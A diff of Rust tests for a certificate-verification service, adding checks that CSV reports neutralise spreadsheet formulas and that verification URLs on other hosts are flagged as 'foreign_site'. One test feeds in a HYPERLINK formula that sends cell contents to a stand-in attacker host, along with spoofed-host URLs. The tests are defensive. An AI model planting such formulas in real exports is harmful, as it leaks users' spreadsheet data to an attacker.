@@ -77,7 +77,10 @@ async fn every_item_answered_on_its_own_in_order() {
     }
     assert!(items_json[3]["reason"].as_str().unwrap_or("").contains(&ids.expired), "{}", items_json[3]);
     assert!(items_json[4]["reason"].as_str().unwrap_or("").contains(REVOKE_REASON), "{}", items_json[4]);
-    assert_eq!(json["summary"], serde_json::json!({ "total": 14, "valid": 2, "not_valid": 9, "errors": 3 }));
+    assert_eq!(
+        json["summary"],
+        serde_json::json!({ "total": 14, "valid": 2, "not_valid": 9, "errors": 3, "foreign_site": 0 })
+    );
     assert!(json["ledger_block"].as_u64().unwrap_or(0) > 0, "{json}");
 
     // The same list as CSV, answered as CSV.
@@ -95,10 +98,12 @@ async fn every_item_answered_on_its_own_in_order() {
     assert!(reply.header("content-type").starts_with("text/csv"));
     let text = reply.text();
     let lines: Vec<&str> = text.lines().collect();
-    assert_eq!(lines[0], "index,input,outcome,verdict,certificate_id,problem,reason");
+    assert_eq!(lines[0], r#""index","input","outcome","verdict","certificate_id","problem","reason","foreign_site""#);
     assert_eq!(lines.len(), 6, "{text}");
-    assert!(lines[1].starts_with(&format!("0,{},valid,VALID,{},,", ids.valid, ids.valid)), "{}", lines[1]);
-    assert!(lines[5].starts_with(&format!("4,{},not_valid,REVOKED,{},revoked,", ids.revoked, ids.revoked)));
+    let v = &ids.valid;
+    assert!(lines[1].starts_with(&format!(r#""0","{v}","valid","VALID","{v}","","#)), "{}", lines[1]);
+    let r = &ids.revoked;
+    assert!(lines[5].starts_with(&format!(r#""4","{r}","not_valid","REVOKED","{r}","revoked","#)), "{}", lines[5]);
 }
 
 #[tokio::test]
@@ -262,7 +267,10 @@ async fn a_pasted_list_gets_a_printable_report_whose_digest_is_its_csv() {
     let api = post_list(&app, &items).await.json();
     let api_csv = post(&app, &items).await;
     assert_eq!(api_csv, csv.body, "the page and the API report alike");
-    assert_eq!(api["summary"], serde_json::json!({ "total": 5, "valid": 3, "not_valid": 1, "errors": 1 }));
+    assert_eq!(
+        api["summary"],
+        serde_json::json!({ "total": 5, "valid": 3, "not_valid": 1, "errors": 1, "foreign_site": 0 })
+    );
 
     // The list kept in the report page downloads the same CSV.
     let kept = page.split("<textarea name=\"items\" hidden>\n").nth(1).and_then(|s| s.split("</textarea>").next());
@@ -306,4 +314,101 @@ async fn a_list_the_page_cannot_check_gets_a_page_saying_why() {
     let reply = send(&app, request).await;
     assert_eq!(reply.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
     assert!(reply.text().contains("The form cannot be read"), "{}", reply.text());
+}
+
+/// CSV injection (issue 71): a code that a spreadsheet would run as a formula comes back
+/// in the CSV report — the API's and the page's download — as text, quoted and with a `'`
+/// before it; the JSON report says what was given.
+#[tokio::test]
+async fn a_formula_item_is_text_in_the_csv_report_and_as_given_in_the_json() {
+    let f = Fixture::new();
+    let app = app(f.state.clone());
+    let formula = r#"=HYPERLINK("http://evil.example/?q="&A1,"Verify")"#;
+    let items = vec![formula.to_owned(), "@SUM(1+1)".to_owned(), f.ids.valid.clone(), "-1+2".to_owned()];
+    let json = post_list(&app, &items).await.json();
+    assert_eq!(json["items"][0]["input"], formula, "the JSON report says what was given");
+    assert_eq!(json["items"][1]["input"], "@SUM(1+1)");
+    let csv = String::from_utf8(post(&app, &items).await).expect("UTF-8");
+    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A1,""Verify"")""#), "{csv}");
+    assert!(csv.contains(r#""'@SUM(1+1)""#) && csv.contains(r#""'-1+2""#), "{csv}");
+    for line in csv.lines() {
+        for start in ["=", "+", "-", "@", "\"=", "\"+", "\"-", "\"@"] {
+            assert!(!line.starts_with(start), "a cell a spreadsheet runs: {line}");
+            for sep in [",", ";", "\t"] {
+                assert!(!line.contains(&format!("{sep}{start}")), "a cell a spreadsheet runs: {line}");
+            }
+        }
+    }
+    // The page's list is CSV (the item in the first field): the formula quoted as CSV.
+    let list: Vec<String> = items.iter().map(|i| format!("\"{}\"", i.replace('"', "\"\""))).collect();
+    let list = list.join("\n");
+    let page_csv = post_form(&app, &[("items", &list), ("format", "csv")]).await;
+    assert_eq!(String::from_utf8_lossy(&page_csv.body), csv, "the page's download is the same CSV");
+}
+
+/// Another site (issue 71): a verification URL whose origin (scheme, host, port) is not
+/// this verifier's is `foreign_site` — named, never `valid`, whatever its certificate is —
+/// in the JSON, the CSV and the page; a GS1 Digital Link on another host is checked by its
+/// GS1 identification and the report names the host.
+#[tokio::test]
+async fn an_item_of_another_site_is_named_never_valid() {
+    let f = Fixture::new();
+    let app = app(f.state.clone());
+    let valid = &f.ids.valid;
+    let token = f.token(valid);
+    let items = vec![
+        format!("https://evil.example/c/{valid}"),
+        format!("https://evil.example/c/{valid}?t={token}"),
+        format!("https://verify.example.org@evil.example/c/{valid}"),
+        format!("http://verify.example.org/c/{valid}"),
+        format!("https://verify.example.org:8443/c/{valid}"),
+        format!("{PUBLIC_URL}/c/{valid}?t={token}"),
+        format!("https://id.example.org/01/0{GTIN}/10/LOT-VALID"),
+        format!("{PUBLIC_URL}/01/0{GTIN}/10/LOT-VALID"),
+    ];
+    let json = post_list(&app, &items).await.json();
+    let got: Vec<(String, String, String, String)> = json["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .map(|i| {
+            let s = |v: &Value| v.as_str().unwrap_or("").to_owned();
+            (s(&i["outcome"]), s(&i["problem"]), s(&i["verdict"]), s(&i["foreign_site"]))
+        })
+        .collect();
+    let want = |o: &str, p: &str, v: &str, site: &str| (o.to_owned(), p.to_owned(), v.to_owned(), site.to_owned());
+    let foreign = |site: &str| want("foreign_site", "foreign_site", "", site);
+    assert_eq!(
+        got,
+        vec![
+            foreign("https://evil.example"),
+            foreign("https://evil.example"),
+            foreign("https://evil.example"),
+            foreign("http://verify.example.org"),
+            foreign("https://verify.example.org:8443"),
+            want("valid", "", "VALID", ""),
+            want("valid", "", "VALID", "https://id.example.org"),
+            want("valid", "", "VALID", ""),
+        ],
+        "{json}"
+    );
+    let reason = |i: usize| json["items"][i]["reason"].as_str().unwrap_or("").to_owned();
+    assert!(reason(0).contains("evil.example") && reason(0).contains(PUBLIC_URL), "{}", reason(0));
+    assert!(reason(6).contains("id.example.org"), "the report names the Digital Link's host: {}", reason(6));
+    assert_eq!(json["items"][0]["certificate_id"], valid.as_str(), "the certificate to look up here");
+    assert_eq!(
+        json["summary"],
+        serde_json::json!({ "total": 8, "valid": 3, "not_valid": 0, "errors": 0, "foreign_site": 5 })
+    );
+    // The CSV says it in its own column; the page flags the items.
+    let csv = String::from_utf8(post(&app, &items).await).expect("UTF-8");
+    assert!(csv.lines().next().unwrap_or("").ends_with(r#","reason","foreign_site""#), "{csv}");
+    assert!(
+        csv.contains(&format!(r#""foreign_site","","{valid}","foreign_site","#))
+            && csv.contains(r#","https://evil.example""#),
+        "{csv}"
+    );
+    let page = post_form(&app, &[("items", &items.join("\n")), ("format", "html")]).await.text();
+    assert!(page.contains("#1 OTHER SITE"), "{page}");
+    assert!(page.contains("<b class=\"n-foreign-site\">5 name another site</b>"), "{page}");
 }
